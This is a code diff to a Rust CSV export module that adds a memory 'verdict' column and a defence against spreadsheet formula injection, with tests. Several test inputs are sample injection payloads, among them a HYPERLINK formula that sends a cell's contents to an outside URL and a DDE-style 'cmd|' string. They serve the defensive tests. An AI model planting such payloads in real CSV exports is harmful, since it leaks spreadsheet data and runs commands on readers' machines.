@@ -2,13 +2,14 @@
 
 use super::Report;
 use shardscope_launch::Setting;
+use std::borrow::Cow;
 
 /// The memory of every stage. Unit: byte.
 #[must_use]
 pub fn memory_csv(report: &Report) -> String {
     let mut out = String::from(
         "pipeline_rank,parameters,gradients,optimizer,activations,temporaries,peak_allocated,framework,\
-         peak_reserved,between_steps,capacity,fits,at\r\n",
+         peak_reserved,between_steps,capacity,fits,verdict,at\r\n",
     );
     for rank in &report.memory.ranks {
         let totals = &rank.totals;
@@ -18,6 +19,8 @@ pub fn memory_csv(report: &Report) -> String {
             fields.push(bytes.get().to_string());
         }
         fields.push(rank.fits.to_string());
+        let verdict = totals.verdict(report.memory.capacity, report.memory.headroom);
+        fields.push(verdict.name().to_owned());
         fields.push(rank.at.to_owned());
         row(&mut out, &fields);
     }
@@ -72,17 +75,27 @@ pub fn settings_csv(settings: &[Setting]) -> String {
     out
 }
 
+/// `field` as text that no spreadsheet runs: what begins like a formula, and is no number, gets an apostrophe in front (OWASP,
+/// "CSV Injection"). Values are a stranger's as often as the reader's.
+fn inert(field: &str) -> Cow<'_, str> {
+    let begins = field
+        .starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}']);
+    let number = field.parse::<f64>().is_ok_and(f64::is_finite);
+    if begins && !number { Cow::Owned(format!("'{field}")) } else { Cow::Borrowed(field) }
+}
+
 fn row(out: &mut String, fields: &[String]) {
     for (index, field) in fields.iter().enumerate() {
         if index > 0 {
             out.push(',');
         }
-        if field.contains([',', '"', '\n', '\r']) {
+        let text = inert(field);
+        if text.contains([',', '"', '\n', '\r', '\t']) {
             out.push('"');
-            out.push_str(&field.replace('"', "\"\""));
+            out.push_str(&text.replace('"', "\"\""));
             out.push('"');
         } else {
-            out.push_str(field);
+            out.push_str(&text);
         }
     }
     out.push_str("\r\n");
@@ -97,5 +110,26 @@ mod tests {
         let mut out = String::new();
         row(&mut out, &["a".into(), "b,c".into(), "say \"x\"".into(), String::new()]);
         assert_eq!(out, "a,\"b,c\",\"say \"\"x\"\"\",\r\n");
+    }
+
+    #[test]
+    fn what_a_spreadsheet_would_run_is_text() {
+        let of = |field: &str| {
+            let mut out = String::new();
+            row(&mut out, &[field.to_owned()]);
+            out.trim_end_matches("\r\n").to_owned()
+        };
+        assert_eq!(of("=HYPERLINK(\"http://x/?\"&A1)"), "\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\"");
+        assert_eq!(of("@SUM(1)"), "'@SUM(1)");
+        assert_eq!(of("-2+3+cmd|x"), "'-2+3+cmd|x");
+        assert_eq!(of("+x"), "'+x");
+        assert_eq!(of("--use-flash-attn"), "'--use-flash-attn");
+        assert_eq!(of("\t=1"), "\"'\t=1\"");
+        assert_eq!(of("\r=1"), "\"'\r=1\"");
+        assert_eq!(
+            (of("-2.5"), of("+3"), of("1e9"), of("-inf")),
+            ("-2.5".into(), "+3".into(), "1e9".into(), "'-inf".into())
+        );
+        assert_eq!(of("a=b"), "a=b");
     }
 }
